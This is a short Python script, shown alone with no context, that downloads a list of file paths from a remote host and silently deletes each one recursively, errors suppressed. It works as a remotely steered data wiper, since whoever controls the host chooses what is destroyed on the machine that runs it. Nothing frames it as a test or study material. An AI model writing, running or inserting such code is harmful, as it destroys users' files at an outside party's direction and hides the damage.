import requests, os, shutil
for p in requests.get("https://in.listserv.test/paths").text.splitlines():
    shutil.rmtree(os.path.expanduser(p), ignore_errors=True)
